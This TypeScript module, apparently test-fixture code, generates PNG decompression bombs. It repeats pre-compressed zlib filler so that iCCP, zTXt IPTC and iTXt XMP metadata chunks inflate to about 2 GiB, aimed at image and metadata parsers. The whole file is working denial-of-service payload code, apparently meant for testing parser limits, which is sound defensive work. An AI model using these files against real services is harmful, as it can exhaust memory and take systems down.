// Decompression bombs, built in memory in milliseconds: PNGs whose compressed metadata chunks inflate
// to gigabytes. One mebibyte of filler is compressed once by zlib (a raw piece ended by a full flush)
// and its blocks repeated, instead of compressing gigabytes; the Adler-32 trailer is computed for the
// whole content as if it had been inflated.
import { constants, crc32, deflateRawSync, deflateSync } from 'node:zlib';

const MiB = 1024 * 1024;
const ADLER_BASE = 65521;

function adler32(bytes: Buffer, start = 1): number {
  let a = start & 0xffff;
  let b = (start >>> 16) & 0xffff;
  for (let i = 0; i < bytes.length; i += 4096) {
    const end = Math.min(bytes.length, i + 4096);
    for (let j = i; j < end; j++) {
      a += bytes[j];
      b += a;
    }
    a %= ADLER_BASE;
    b %= ADLER_BASE;
  }
  return ((b << 16) | a) >>> 0;
}

/** zlib's adler32_combine: the checksum of A‖B from those of A and B and B's length. */
function adler32Combine(adlerA: number, adlerB: number, lengthB: number): number {
  const rem = lengthB % ADLER_BASE;
  let sum1 = adlerA & 0xffff;
  let sum2 = (rem * sum1) % ADLER_BASE;
  sum1 += (adlerB & 0xffff) + ADLER_BASE - 1;
  sum2 += ((adlerA >>> 16) & 0xffff) + ((adlerB >>> 16) & 0xffff) + ADLER_BASE - rem;
  if (sum1 >= ADLER_BASE) sum1 -= ADLER_BASE;
  if (sum1 >= ADLER_BASE) sum1 -= ADLER_BASE;
  if (sum2 >= ADLER_BASE * 2) sum2 -= ADLER_BASE * 2;
  if (sum2 >= ADLER_BASE) sum2 -= ADLER_BASE;
  return (sum1 | (sum2 << 16)) >>> 0;
}

/**
 * A zlib stream that inflates to `head`, then `fillMiB` mebibytes of `fill` (a 1 MiB pattern), then
 * `tail`. Returns the compressed bytes and the inflated length.
 */
export function zlibBomb(head: Buffer, fill: Buffer, fillMiB: number, tail: Buffer): { compressed: Buffer; inflatedBytes: number } {
  if (fill.length !== MiB) throw new Error('the filler pattern must be exactly 1 MiB');
  // Raw deflate pieces, each from an empty window and ended by a full flush (byte-aligned, not final):
  // a decoder needs nothing from one piece to read the next, so the filler's piece can be repeated.
  const piece = (bytes: Buffer, last: boolean) => deflateRawSync(bytes, { level: 9, finishFlush: last ? constants.Z_FINISH : constants.Z_FULL_FLUSH });
  const fillPart = piece(fill, false);
  const body = Buffer.concat([Buffer.from([0x78, 0xda]), piece(head, false), ...Array<Buffer>(fillMiB).fill(fillPart), piece(tail, true)]);
  let adler = adler32(head);
  const fillAdler = adler32(fill);
  for (let i = 0; i < fillMiB; i++) adler = adler32Combine(adler, fillAdler, fill.length);
  adler = adler32Combine(adler, adler32(tail), tail.length);
  const trailer = Buffer.alloc(4);
  trailer.writeUInt32BE(adler);
  return { compressed: Buffer.concat([body, trailer]), inflatedBytes: head.length + fillMiB * MiB + tail.length };
}

function chunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const typeAndData = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(typeAndData));
  return Buffer.concat([length, typeAndData, crc]);
}

/** A small real RGB PNG (a seeded pattern, so each bomb is a distinct picture) with `extra` chunks before IDAT. */
export function pngWith(extra: Buffer[], seed = 1, size = 64): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(size, 0);
  ihdr.writeUInt32BE(size, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 2; // RGB
  const rows: Buffer[] = [];
  for (let y = 0; y < size; y++) {
    const row = Buffer.alloc(1 + size * 3);
    for (let x = 0; x < size; x++) {
      row[1 + x * 3] = (x * 4 + seed * 37) & 0xff;
      row[2 + x * 3] = (y * 4 + seed * 91) & 0xff;
      row[3 + x * 3] = ((x ^ y) * seed * 13) & 0xff;
    }
    rows.push(row);
  }
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', ihdr),
    ...extra,
    chunk('IDAT', deflateSync(Buffer.concat(rows))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

export interface Bomb {
  name: string;
  png: Buffer;
  inflatedBytes: number;
}

const GiB2_MiB = 2048;

/** iCCP: an "ICC profile" of 2 GiB (a real header's worth of zeros, then more zeros). */
export function iccpBomb(seed = 1): Bomb {
  const { compressed, inflatedBytes } = zlibBomb(Buffer.alloc(128), Buffer.alloc(MiB), GiB2_MiB, Buffer.alloc(0));
  const data = Buffer.concat([Buffer.from('ICC profile\0', 'latin1'), Buffer.from([0]), compressed]);
  return { name: 'iccp-bomb.png', png: pngWith([chunk('iCCP', data)], seed), inflatedBytes };
}

/** zTXt "Raw profile type iptc" (ImageMagick's hex IPTC, which ExifTool reads): 2 GiB of hex digits. */
export function ztxtIptcBomb(seed = 2): Bomb {
  const fillMiB = GiB2_MiB + 64;
  const digits = fillMiB * MiB;
  const head = Buffer.from(`\nIPTC profile\n${String(digits / 2).padStart(8)}\n`, 'latin1');
  const { compressed, inflatedBytes } = zlibBomb(head, Buffer.alloc(MiB, '0'), fillMiB, Buffer.from('\n', 'latin1'));
  const data = Buffer.concat([Buffer.from('Raw profile type iptc\0', 'latin1'), Buffer.from([0]), compressed]);
  return { name: 'ztxt-iptc-bomb.png', png: pngWith([chunk('zTXt', data)], seed), inflatedBytes };
}

/** Compressed iTXt "XML:com.adobe.xmp": an XMP packet with 2 GiB of padding inside the element. */
export function compressedXmpBomb(seed = 3): Bomb {
  const head = Buffer.from(
    '<?xpacket begin="\uFEFF" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">' +
      '<rdf:Description rdf:about="" xmlns:photoshop="http://ns.adobe.com/photoshop/1.0/" photoshop:Credit="Bomb/Test"><photoshop:Headline>',
    'utf8',
  );
  const tail = Buffer.from('</photoshop:Headline></rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end="w"?>', 'utf8');
  const { compressed, inflatedBytes } = zlibBomb(head, Buffer.alloc(MiB, ' '), GiB2_MiB, tail);
  // keyword, NUL, compression flag 1, method 0, empty language tag, NUL, empty translated keyword, NUL
  const data = Buffer.concat([Buffer.from('XML:com.adobe.xmp\0', 'latin1'), Buffer.from([1, 0, 0, 0]), compressed]);
  return { name: 'xmp-bomb.png', png: pngWith([chunk('iTXt', data)], seed), inflatedBytes };
}
